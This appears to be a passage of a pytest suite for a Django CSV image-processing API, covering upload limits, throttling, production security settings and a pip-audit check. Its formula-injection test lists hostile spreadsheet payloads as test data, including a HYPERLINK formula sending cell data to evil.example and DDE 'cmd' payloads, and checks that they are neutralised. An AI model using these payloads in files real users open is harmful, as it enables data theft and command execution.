    """A real HTTP upload of CSV_MAX_BYTES + 1 bytes (the multipart envelope passes the
    Content-Length pre-check; the file's own size does not)."""
    settings.CSV_MAX_BYTES = 64 * 1024
    content = csv_with_url(image_server.add("/x.jpg", make_image(8, 8))).ljust(64 * 1024 + 1, b"\n")
    response = requests.post(
        live_server.url + "/csv/upload",
        headers={"Authorization": f"Bearer {api_key}"},
        files={"file": ("big.csv", content, "text/csv")},
        timeout=30,
    )
    assert response.status_code == 413, response.text
    assert response.json()["error"] == "too_large"
    exact = requests.post(
        live_server.url + "/csv/upload",
        headers={"Authorization": f"Bearer {api_key}"},
        files={"file": ("ok.csv", content[:-1], "text/csv")},
        timeout=30,
    )
    assert exact.status_code == 202, exact.text  # exactly at the limit is accepted
    assert ProcessingRequest.objects.count() == 1


# --- 10,000 copies of one URL: fetched once ---------------------------------------------------


def test_ten_thousand_copies_of_one_url_are_fetched_once(api: APIClient, image_server: ImageServer) -> None:
    url = image_server.add("/same.jpg", make_image(64, 64))
    rows = [(str(i), f"P{i}", [url] * 50) for i in range(200)]
    response = upload(api, csv_bytes(rows))
    assert response.status_code == 202, response.content
    assert response.json()["images"] == 10_000
    request = ProcessingRequest.objects.get(pk=response.json()["request_id"])
    assert image_server.hits["/same.jpg"] == 1
    assert (request.status, request.images_done) == (RequestStatus.COMPLETED, 10_000)
    outputs = set(ProductImage.objects.filter(request=request).values_list("output_name", flat=True))
    assert len(outputs) == 1
    assert stored_files(request.pk) == sorted(["output.csv", outputs.pop().rsplit("/", 1)[1]])


# --- Formula injection round trip: input names and serials, neutralised in the output CSV -----


@pytest.mark.parametrize(
    ("serial", "name", "expected_serial", "expected_name"),
    [
        pytest.param("1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "1", "'=HYPERLINK(", id="equals"),
        pytest.param("1", "+cmd|' /C calc'!A0", "1", "'+cmd|", id="plus-dde"),
        pytest.param("1", "-cmd|' /C calc'!A0", "1", "'-cmd|", id="minus-dde"),
        pytest.param("1", "@SUM(1+9)*cmd|' /C calc'!A0", "1", "'@SUM(", id="at"),
        pytest.param("1", "\t=1+2", "1", "'=1+2", id="leading-tab-then-formula"),
        pytest.param("1", "   =1+2", "1", "'=1+2", id="leading-spaces-then-formula"),
        pytest.param("=2+5", "Shoe", "'=2+5", "Shoe", id="formula-in-serial"),
        pytest.param("-2", "-", "-2", "'-", id="negative-number-stays-a-number"),
        pytest.param("+3.5", "a=1", "+3.5", "a=1", id="signed-decimal-stays-a-number"),
        pytest.param("-1e5", "'=quoted", "'-1e5", "'=quoted", id="exponent-is-escaped-quote-kept"),
    ],
)
def test_formula_injection_is_neutralised_in_the_output_csv(
    api: APIClient, image_server: ImageServer, serial: str, name: str, expected_serial: str, expected_name: str
) -> None:
    url = image_server.base_url + "/missing.jpg"  # the image fails fast; the CSV is what matters
    buf = io.StringIO()
    csv.writer(buf).writerows([["S. No.", "Product Name", "Input Image Urls"], [serial, name, url]])
    response = upload(api, buf.getvalue().encode())
    assert response.status_code == 202, response.content
    request_id = response.json()["request_id"]
    served = output_rows(api, request_id)
    request = ProcessingRequest.objects.get(pk=request_id)
    with default_storage.open(request.output_csv_name) as f:
        stored = list(csv.reader(io.StringIO(f.read().decode())))
    for rows in (served, stored):
        assert rows[1][0] == expected_serial
        assert rows[1][1].startswith(expected_name), rows[1][1]
        assert all(is_inert(cell) for cell in rows[1]), rows[1]


def is_inert(cell: str) -> bool:
    """What a spreadsheet will not evaluate: no formula trigger first, unless a plain number."""
    return not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")) or bool(
        re.fullmatch(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)", cell)
    )


# --- Abuse: throttling per API key, and a cap on requests in progress ---------------------------


def test_uploads_are_throttled_per_api_key_with_retry_after(
    api: APIClient, api_key: str, image_server: ImageServer, settings: Any
) -> None:
    settings.UPLOAD_THROTTLE_RATE = "2/min"
    url = image_server.add("/t.jpg", make_image(16, 16))
    content = csv_bytes([("1", "A", [url])])
    assert [upload(api, content).status_code for _ in range(2)] == [202, 202]
    throttled = upload(api, content)
    assert throttled.status_code == 429
    assert 1 <= int(throttled["Retry-After"]) <= 60
    assert "throttled" in throttled.json()["detail"]
    assert ProcessingRequest.objects.count() == 2  # the throttled upload created nothing
    # The bucket belongs to the key: the same client's second key, and another client, go on.
    client = ApiClient.objects.get(user__username="acme")
    second = APIClient()
    second.credentials(HTTP_AUTHORIZATION=f"Bearer {api_key_create(client=client)}")
    assert upload(second, content).status_code == 202
    other_client, _ = api_client_create(name="other")
    other = APIClient()
    other.credentials(HTTP_AUTHORIZATION=f"Bearer {api_key_create(client=other_client)}")
    assert upload(other, content).status_code == 202
    # Only uploads are throttled.
    assert api.get("/csv/requests").status_code == 200


def test_requests_in_progress_are_capped_per_client(api: APIClient, image_server: ImageServer, settings: Any) -> None:
    settings.MAX_ACTIVE_REQUESTS_PER_CLIENT = 2
    owner = ApiClient.objects.get(user__username="acme").user
    in_progress = [
        ProcessingRequest.objects.create(owner=owner, status=status, idempotency_key=f"busy-{status}")
        for status in (RequestStatus.PENDING, RequestStatus.PROCESSING)
    ]
    ProcessingRequest.objects.create(owner=owner, status=RequestStatus.COMPLETED)  # finished: not counted
    url = image_server.add("/c.jpg", make_image(16, 16))
    content = csv_bytes([("1", "A", [url])])

    refused = upload(api, content)
    assert refused.status_code == 429
    assert refused.json()["error"] == "too_many_active_requests"
    assert "limit is 2" in refused.json()["detail"]
    assert ProcessingRequest.objects.count() == 3
    assert image_server.hits["/c.jpg"] == 0

    # An idempotent replay is not a new request: it is answered, not blocked.
    replay = upload(api, content, HTTP_IDEMPOTENCY_KEY="busy-pending")
    assert replay.status_code == 200
    assert replay.json()["request_id"] == str(in_progress[0].pk)

    # Another client has its own cap; and once one request finishes, there is room again.
    other_client, _ = api_client_create(name="other")
    other = APIClient()
    other.credentials(HTTP_AUTHORIZATION=f"Bearer {api_key_create(client=other_client)}")
    assert upload(other, content).status_code == 202
    ProcessingRequest.objects.filter(pk=in_progress[1].pk).update(status=RequestStatus.COMPLETED)
    assert upload(api, content).status_code == 202


# --- Production settings refuse to start insecurely ---------------------------------------------

SECRET = "x" * 20 + "9f3a0c7e1b5d2f4a6c8e0b1d3f5a7c9e2b4d6f8a"  # 60 characters, not a dev key
PRODUCTION_ENV = {
    "SECRET_KEY": SECRET,
    "ALLOWED_HOSTS": "images.example.com",
    "PUBLIC_BASE_URL": "https://images.example.com",
}


def run_production(tmp_path: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in PRODUCTION_ENV and not k.startswith("PYTEST")}
    base.update(DJANGO_SETTINGS_MODULE="settings.production", VAR_DIR=str(tmp_path), **env)
    return subprocess.run(
        [sys.executable, *args], cwd=ROOT, env=base, capture_output=True, text=True, timeout=120, check=False
    )


@pytest.mark.parametrize(
    ("change", "message"),
    [
        pytest.param({"SECRET_KEY": ""}, "SECRET_KEY must be set", id="no-secret-key"),
        pytest.param({"SECRET_KEY": "short"}, "at least 50 characters", id="short-secret-key"),
        pytest.param({"ALLOWED_HOSTS": ""}, "ALLOWED_HOSTS must be set", id="no-allowed-hosts"),
        pytest.param({"PUBLIC_BASE_URL": ""}, "PUBLIC_BASE_URL must be set", id="no-public-base-url"),
        pytest.param({"PUBLIC_BASE_URL": "http://images.example.com"}, "https://", id="plain-http-base-url"),
    ],
)
def test_production_refuses_to_start_without_its_settings(tmp_path: Path, change: dict[str, str], message: str) -> None:
    env = {k: v for k, v in {**PRODUCTION_ENV, **change}.items() if v}
    result = run_production(tmp_path, env, "manage.py", "check")
    assert result.returncode != 0
    assert "ImproperlyConfigured" in result.stderr
    assert message in result.stderr


def test_production_passes_the_deploy_check_and_sends_secure_headers(tmp_path: Path) -> None:
    check = run_production(tmp_path, PRODUCTION_ENV, "manage.py", "check", "--deploy", "--fail-level", "WARNING")
    assert check.returncode == 0, check.stdout + check.stderr
    script = (
        "import json, django; django.setup()\n"
        "from django.test import Client\n"
        "plain = Client().get('/csv/requests')\n"
        "secure = Client().get('/csv/requests', secure=True)\n"
        "print(json.dumps({'plain': [plain.status_code, plain.headers.get('Location')],"
        " 'secure': [secure.status_code, dict(secure.headers)]}))\n"
    )
    result = run_production(tmp_path, {**PRODUCTION_ENV, "ALLOWED_HOSTS": "testserver"}, "-c", script)
    assert result.returncode == 0, result.stderr
    answers = json.loads(result.stdout.strip().splitlines()[-1])
    assert answers["plain"] == [301, "https://testserver/csv/requests"]
    status, headers = answers["secure"]
    assert status == 401
    assert headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"


# --- The CI's pip-audit step cannot pass by auditing nothing -----------------------------------


def fake_pip_audit(tmp_path: Path, report: dict[str, Any] | None, code: int = 0) -> str:
    script = tmp_path / "pip-audit"
    output = json.dumps(report) if report is not None else "Traceback: could not reach the service"
    script.write_text(f"#!/bin/sh\ncat <<'JSON'\n{output}\nJSON\nexit {code}\n")
    script.chmod(0o755)
    return str(script)


AUDITED = {"name": "django", "version": "5.2.19", "vulns": []}
VULNERABLE = {"name": "pillow", "version": "9.0.0", "vulns": [{"id": "PYSEC-X", "fix_versions": ["9.0.1"]}]}
SKIPPED = {"name": "django", "skip_reason": "Dependency not found on PyPI and could not be audited: django (5.2.19)"}


@pytest.mark.parametrize(
    ("dependencies", "code", "allow", "accepted", "expected"),
    [
        pytest.param([AUDITED], 0, "", False, 0, id="all-audited-none-vulnerable"),
        pytest.param([AUDITED, VULNERABLE], 1, "", False, 1, id="a-vulnerability"),
        pytest.param([SKIPPED, SKIPPED], 0, "", False, 2, id="nothing-audited-is-not-a-pass"),
        pytest.param([SKIPPED], 0, "A1", False, 2, id="exception-named-but-not-accepted"),
        pytest.param([SKIPPED], 0, "A1", True, 0, id="exception-accepted"),
        pytest.param([SKIPPED, VULNERABLE], 1, "A1", True, 1, id="exception-never-hides-a-vulnerability"),
        pytest.param(None, 1, "A1", True, 2, id="pip-audit-crashed"),
    ],
)
def test_pip_audit_check(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    dependencies: list[dict[str, Any]] | None,
    code: int,
    allow: str,
    accepted: bool,
    expected: int,
) -> None:
    from security import pip_audit_check

    exceptions = tmp_path / "exceptions.md"
    exceptions.write_text(
        "## A1 pip-audit [accepted: lead, 2026-11-25]\n" if accepted else "## A1 pip-audit [proposed]\n"
    )
    monkeypatch.setattr(pip_audit_check, "EXCEPTIONS", exceptions)
    monkeypatch.setenv("PIP_AUDIT_ALLOW_UNAUDITED", allow)
    report = None if dependencies is None else {"dependencies": dependencies, "fixes": []}
    assert pip_audit_check.main(["--pip-audit", fake_pip_audit(tmp_path, report, code)]) == expected
